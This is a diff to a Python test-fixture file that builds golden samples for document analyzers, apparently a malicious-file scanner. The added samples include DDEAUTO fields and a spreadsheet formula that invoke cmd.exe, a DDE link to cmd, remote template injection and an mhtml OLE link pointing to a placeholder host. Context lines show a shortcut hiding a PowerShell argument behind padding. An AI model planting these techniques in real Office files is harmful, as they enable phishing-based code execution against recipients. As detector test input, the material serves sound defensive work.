@@ -353,6 +353,15 @@ LARGE = zipped(
 STORAGE = cfb({"\x01Ole10Native": ole10native("minutes.exe", PE), "Notes": TEXT * 3})
 SHORTCUT = lnk("..\\..\\Windows\\System32\\cmd.exe", " " * 300 + "/c powershell -w hidden echo hello", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", PE, "john-pc", 7)  # fmt: skip
 
+_FIELD_PARTS = b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText xml:space="preserve">UTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k echo&quot;</w:instrText><w:fldChar w:fldCharType="end"/>'
+
+
+def relation(kind: str, target: str, mode: str = "External") -> bytes:
+    """A part of relationships with one."""
+    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    return f'<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()
+
+
 #: By analyzer: name of the golden file, what the analyzer is told the name is, content.
 GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
     "zip": [
@@ -415,6 +424,24 @@ GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
         ("administrator", "m.lnk", lnk("..\\cmd.exe", "/k cd C:\\scripts")),
         ("share", "m.url", b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\nIconFile=\\\\192.0.2.7\\i\\a.ico\r\n"),
         ("web", "m.url", b"[InternetShortcut]\r\nURL=https://www.example/\r\n"),
+    ],
+    "word_field": [
+        ("wide", "WordDocument", b"\xec\xa5" + bytes(30) + "Text\r\x13DDEAUTO c:\\\\windows\\\\cmd.exe \"/k echo\"\x14!\x15".encode("utf-16-le") + bytes(30)),
+        ("narrow", "WordDocument", b"\xec\xa5" + bytes(30) + b"Text\r\x13 DDE Excel a.xls R1C1 \x14!\x15"),
+        ("harmless", "WordDocument", b"\xec\xa5" + bytes(30) + b"DDEAUTO is a word\r\x13 PAGE \x14" + b"1\x15"),
+        ("formula", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/k echo'!A1\"/></Workbook>"),
+        ("sum", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=SUM(A1:A2)\"/></Workbook>"),
+    ],
+    "ooxml": [
+        ("template", "settings.xml.rels", relation("attachedTemplate", "http://192.0.2.7/t.dotm")),
+        ("own_template", "settings.xml.rels", relation("attachedTemplate", "Normal.dotm")),
+        ("page", "document.xml.rels", relation("oleObject", "mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html")),
+        ("linked_object", "document.xml.rels", relation("oleObject", "file:///C:\\a.docx")),
+        ("hyperlink", "document.xml.rels", relation("hyperlink", "https://www.example/")),
+        ("inside", "document.xml.rels", relation("attachedTemplate", "http://192.0.2.7/t.dotm", "Internal")),
+        ("dde_in_pieces", "document.xml", b"<?xml version='1.0'?><w:document>" + _FIELD_PARTS + b"</w:document>"),
+        ("page_number", "document.xml", b"<?xml version='1.0'?><w:document><w:fldSimple w:instr=\" PAGE \"/><w:t>DDEAUTO is a word</w:t></w:document>"),
+        ("dde_link", "externalLink1.xml", b"<?xml version='1.0'?><externalLink><ddeLink ddeService='cmd' ddeTopic='/k echo'/></externalLink>"),
     ],
     "flat_opc": [("macro", "m.xml", flat({"word/vbaProject.bin": STORAGE})), ("plain", "m.xml", flat({"a.bin": TEXT}))],
     "encrypted_office": [("default_password", "m.docx", encrypted(LARGE, "VelvetSweatshop")), ("locked", "m.docx", encrypted(LARGE, "no word that anybody tries")), ("not_encrypted", "m.doc", cfb({"WordDocument": bytes(600), "1Table": bytes(600)}))],
